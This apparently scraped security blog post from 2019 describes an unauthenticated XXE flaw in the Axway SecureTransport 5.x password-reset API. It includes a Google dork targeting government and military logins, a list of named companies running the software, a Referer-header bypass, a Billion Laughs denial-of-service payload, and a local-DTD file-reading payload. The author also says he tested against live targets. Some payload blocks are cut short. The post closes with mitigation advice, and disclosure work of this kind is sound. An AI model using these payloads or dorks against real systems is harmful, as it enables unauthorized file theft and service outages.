Mand Consulting Group

!-- Include PrismJS JavaScript -->

Axway SecureTransport 5.x XML Injection

by zer0pwn - Jul 2019

Often times when running scans against large companies, you'll find the same software being reused across many of them. Over the last couple weeks I've ran into Axway SecureTransport logins at least 3 times during separate audits. Accordingto Axway's website:

"Axway SecureTransport is a multi-protocol MFT gateway for securing, managing, and tracking file flows among people and applications inside your enterprise, and beyond your firewall to your user communities, the cloud and mobile devices. It is designed to handle everything — from high-volume automated high speed secure file transfers between systems, sites, lines of business and external partners, to user-driven communications and mobile, folder- and portal-based file sharing"


Who else uses this?

With a simple Google dork, we can roughly see how many indexed logins there are.

intitle:"Axway SecureTransport" "Login" (site:mil OR site:gov)


To list a few more:

Company Domain Software
Axway Axway SecureTransport 5
Verisk Axway SecureTransport 5
Aramark Axway SecureTransport 5
Regeneron Axway SecureTransport 5
CostCo Axway SecureTransport 5
UBS Axway SecureTransport 5
Invesco Axway SecureTransport 5
Fleetcor Axway SecureTransport 5


As I originally stated, I ran into Axway SecureTransport logins a couple times before finally deciding to poke around at it a little bit. Eventually I got fed up and finally saw it enough times that I decided it was a worthwhile target.

Obviously the first step when looking for vulnerabilities is to map out the attack surface. Seeing as this is enterprise software and most likely requires credentials for most resources... we'll try and stick with actions we actually have the authority to use.

The first thing I did was read the source of the page I was on (which was the index). In a "login.js" file, I found the following snippet:

var parameters = "<resetPassword><email>" + userEmail + "</email></resetPassword>";
    url : "/api/v1.0/myself/resetPassword",
    type : 'POST',
    contentType : 'application/xml',
    data : parameters,
    cache : false,
    success : function(data) {
    var msg =$.tmpl('<p>${m1}</p><p>${m2}</p>', {
        m1: _('Your request is now submitted.'),
        m2: message


Obviously this indicates that we can (without authentication) send a password reset. We can also see that in the XHR request, it sets the content type to XML, and then uses the XML data stored in var parameters.

This gives us a nice little template of some valid XML we can use. Now something worth noting is that Administrators can disable the forgot password option in the user interface, which is why on some targets you won't see the option. However it's literally ENTIRELY useless, because it only disables it from the UI lol.

Let's open up Burp and run a couple quick tests here. Once you've located a SecureTransport install, you can navigate to https://placeholder/api/v1.0/myself/resetPassword. Typically, this should be the response (assuming you sent a normal GET request).


The error is pretty self-explanatory. The server is expecting to recieve a Referer header, then "allegedly" checks against a whitelist. However I just set mine to localhost and everything worked smoothly.

Let's senda POST request with the Referer header set and see what we get.


We get the following error:

  "message" : "javax.xml.bind.UnmarshalException
   - with linked exception:
   [org.xml.sax.SAXParseException; Premature end of file.]"

This error usually indicates that the server tried to parse an empty XML doc, which obviously fails. Now even though we do know what the valid XML looks like... let's just play around with the parser to get a better feel for it.Let's try sending a random tag (<test>) in the following request, and see how it reacts.


This time, this is the error we're getting:

  "message" : "javax.xml.bind.UnmarshalException:
  unexpected element (uri:"", local:"test").
  Expected elements are <{}resetPassword>"

Clearly it's expecting the <resetPassword></resetPassword> element, so let's go ahead and add that and see what happens.


As you can see by the error in the image, it expects the email tag as well. Let's give it what it wants. Let's also try an XML declaration at the top of the document and see whathappens.

<?xml version="1.0" encoding="UTF-8"?>
    <email>[email protected]</email>


We get a 204 response...

We know our XML was successfully parsed, because we didn't recieve an exception. I failed to demonstrate this earlier, however when you send a valid email via the password reset form, you recieve the same 204 response.

But still, that's pretty terrible isn't it? No reflection whatsoever... meaning we're gonna have to go in blind. On the bright side, the SAXParser will typically throw exceptions when externalentities or dtd declaration is disabled. We can use these errors... or lack thereof... to confirm this vulnerability.


We can send whatever XML we want to the server, and the server will process said data. Since we know that it's vulnerable to XML injection, we should also check whether or not we can use external entities, or any entities at all for that matter.

Let's try defining some entities and see what happens.

<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE resetPassword [
<!ENTITY exists SYSTEM "file:///">


  "message" : "javax.xml.bind.UnmarshalException
   - with linked exception:
   [org.xml.sax.SAXParseException; lineNumber: 6;
    columnNumber: 25; The entity "doesnt"
    was referenced, but not declared.]"

99% of the time, we should not be getting this far at all. Typically when doctype declaration is configured properly, an exception should be raised. You would also receive an exception from the SAXParser if you used a restricted URI handler (http, ftp, gopher, file), however we're not getting that either.


Because the server doesn't reflect the input anywhere, our only option is error-based XXE or out-of-band XXE. However, upon initial discovery, it appears as though most Axway SecureTransport installations have some type of firewall blocking all outgoing requests. This makes exploiting traditional XXE difficult.

Judging by this, my only ideas on exploitation would be via blind SSRF or by repurposing an existing DTD on the filesystem to trigger an error with the file contents/result of our payload.

However because I don't have a license, I can't effectively audit this software from a whitebox perspective, which makes mapping out internal attack surface difficult. The underlyingvulnerability remains... but with restrictions.

The SSRF PayloadXXE is great because it presents a wide variety of issues. Some of the most effective attacks have been carried out by using XXE to send server-side requests and exploit internal services. Anything you can do with generic URL invocation attacks, you can use in conjunction with an XXE.


The DOS Payload(s)

Another type of attack that this software ends up opening the door to (by allowing doctype declarations) is denial of service. In 2002, the Billion Laughs attack was first reported. The Billion Laughs attack essentially overloads the parser with so many entities that when it tries to expand them all, it exhausts the system and essentially crashes.

Below you'll find a snippet from Wikipedia.

<?xmlversion="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ELEMENT lolz (#PCDATA)>
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8"&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">

Local DTD Exploitation (DTD repurposing)

Another technique that's relatively new and effective is DTD repurposing. People have been using this technique to exploit XXE on hardened networks that refuse to make outgoing requests for a while now. By using this technique, we can redefine entities in a DTD that already exists on the local file system. We can then successfully make the application spit out errors that it typically wouldn't (see parameter entities).

As an example, this is what a DTD repurposing attack payload would look like:

<?xmlversion="1.0" encoding="UTF-8"?>
<!DOCTYPE resetPassword [
<!ENTITY % local_dtd SYSTEM "file:///usr/share/xml/fontconfig/fonts.dtd">
<!ENTITY % expr 'aaa)>
<!ENTITY % file SYSTEM "file:///FILE_TO_READ">
<!ENTITY % eval "<!ENTITY % error SYSTEM 'file:///abcxyz/%file;'>">
<!ELEMENT aa (bb'>

0x05 ConclusionIf a determined attacker were to get to know the Axway SecureTransport software, the chances of successfully chaining this bug are high. DTD repurposing is a relatively new technique, however in the near future we will be seeing a lot more of this attack vector due to XML parser restrictions/firewalled networks. I didn't feel comfortable doing further testing as I don't have a license, meaning I'm limited to testing against live targets.


  • Referer must be set.
  • Content type must be xml.• Successful request returns a HTTP/1.1 204 No Content
  • Any type of invalid XML throws an SAXParser exception.
  • If external entities were disabled... we should also recieve an exception.
  • Same with doctype declaration.
  • API endpoints can vary from /api/v1.0, /api/v1.1, /api/v1.2, /api/v1.3, /api/v1.4


In order to avoid this vulnerability, it's suggested to disable both doctype declaration and externalgeneral entities. You can find moreinformation on that here.Contact Form Demo (#5)